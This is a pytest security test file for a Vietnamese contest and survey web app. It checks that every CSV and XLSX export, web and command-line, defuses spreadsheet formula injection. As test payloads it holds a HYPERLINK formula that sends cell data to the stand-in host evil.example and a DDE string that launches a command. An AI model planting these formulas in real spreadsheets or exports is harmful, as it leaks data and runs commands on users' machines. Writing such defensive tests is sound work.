"""Formula injection (CSV/XLSX): every export, downloaded or written by the CLI, defuses cells and headers that a
spreadsheet would run, whatever text organisers, citizens or imports put into names, comments and questions."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.security.conftest import build_world, contest_login, paths, rules
from tests.factories import job_file

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
#: Every prefix a spreadsheet treats as the start of a formula (OWASP "CSV injection").
PREFIXED = ["+1+2", "-1+2", "@SUM(1+1)", "\t=1+2", "\r=1+2", "=cmd|' /C calc'!A0"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = max(",;\t", key=header.count)
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))  # not read-only: formulas stay formulas (data_type "f")
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cells.append(("FORMULA", cell.value) if cell.data_type == "f" else cell.value)
    return cells


def dangerous_cells(cells: list[object]) -> list[object]:
    """Return the cells a spreadsheet would evaluate: formulas, and text starting with a formula prefix."""
    found = []
    for cell in cells:
        if isinstance(cell, tuple):
            found.append(cell)
        elif isinstance(cell, str) and cell.startswith(DANGEROUS) and not is_number(cell):
            found.append(cell)
    return found


def defused(cells: list[object]) -> list[str]:
    """Return the cells that hold one of the payloads, defused by a leading quote."""
    return [cell for cell in cells if isinstance(cell, str) and cell.startswith("'") and
            any(payload.strip() in cell for payload in [FORMULA, *PREFIXED])]


def finish_attempts(app, world) -> None:
    """Submit both tenants' attempts, so attempt exports and contest reports have rows."""
    from app.contests import attempts
    from app.database import utcnow
    from app.extensions import db

    with app.app_context():
        for tenant in (world.a, world.b):
            attempts.submit_attempt(tenant.attempt_id, tenant.participant_id, {}, None, now=utcnow())
        db.session.commit()


@pytest.fixture
def loaded(app, make):
    """The two-tenant world with formula payloads at the start of every text, more in comments, attempts done."""
    world = build_world(app, make, FORMULA)
    for payload in PREFIXED:
        make.response(world.a.counter, comment=payload + " góp ý")
    finish_attempts(app, world)
    return world


def test_every_downloadable_export_defuses_formulas_in_cells_and_headers(app, loaded, login):
    world = loaded
    client = app.test_client()
    login(world.root, on=client)
    contest_login(client, world.a)
    year = __import__("datetime").date.today().year
    extra = [f"/quan-tri/xuat-du-lieu/tai-ve?unit={world.a.unit_id}&instrument=sipas-counter&format={fmt}"
             for fmt in ("csv", "xlsx")]
    extra += [f"/quan-tri/bao-cao/tai-ve.xlsx?unit={world.a.unit_id}&period={year}"]
    checked, problems, payload_seen = [], [], []
    spreadsheet_rules = set()
    for rule in rules(app, {"GET"}):
        if "csv" in rule.rule or "xlsx" in rule.rule or "xuat" in rule.rule:
            spreadsheet_rules.add(rule.rule)
    candidates = [path for rule in rules(app, {"GET"}) for path in paths(rule, world.a, app)] + extra
    for path in candidates:
        response = job_file(client, path)
        if response.status_code != 200:
            continue
        if response.mimetype == "text/csv":
            cells = csv_cells(response.get_data())
        elif response.mimetype == XLSX:
            cells = xlsx_cells(response.get_data())
        else:
            continue
        checked.append(path)
        problems += [f"{path}: {cell!r}" for cell in dangerous_cells(cells)]
        payload_seen += defused(cells)
    assert not problems, "\n".join(problems[:30])
    covered = {rule for rule in spreadsheet_rules
               if any(path.split("?")[0].startswith(rule.split("<")[0]) for path in checked)}
    missing = spreadsheet_rules - covered - {"/quan-tri/xuat-du-lieu"}  # the form page of the download
    assert not missing, f"exports not checked: {missing}"
    assert len(checked) >= 8, checked
    assert payload_seen, "no export carried a payload: the check proved nothing"


@pytest.mark.parametrize("command", [
    ["export", "responses", "--instrument", "sipas-counter", "--format", "{fmt}"],
    ["report", "sipas", "--unit", "T", "--period", "{year}", "--format", "{fmt}"],
    ["export", "attempts", "--contest", "thi-t-a", "--format", "{fmt}"],
    ["report", "contest", "--contest", "thi-t-a", "--format", "{fmt}"],
], ids=["export-responses", "report-sipas", "export-attempts", "report-contest"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_command_line_export_defuses_formulas(app, runner, loaded, tmp_path, command, fmt):
    year = __import__("datetime").date.today().year
    out = tmp_path / f"export.{fmt}"
    args = [part.format(fmt=fmt, year=year) for part in command] + ["--out", str(out)]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    cells = csv_cells(data) if fmt == "csv" else xlsx_cells(data)
    assert not dangerous_cells(cells), dangerous_cells(cells)[:10]
    if command[1] in ("responses", "sipas"):
        assert defused(cells), "the export carried no payload: the check proved nothing"
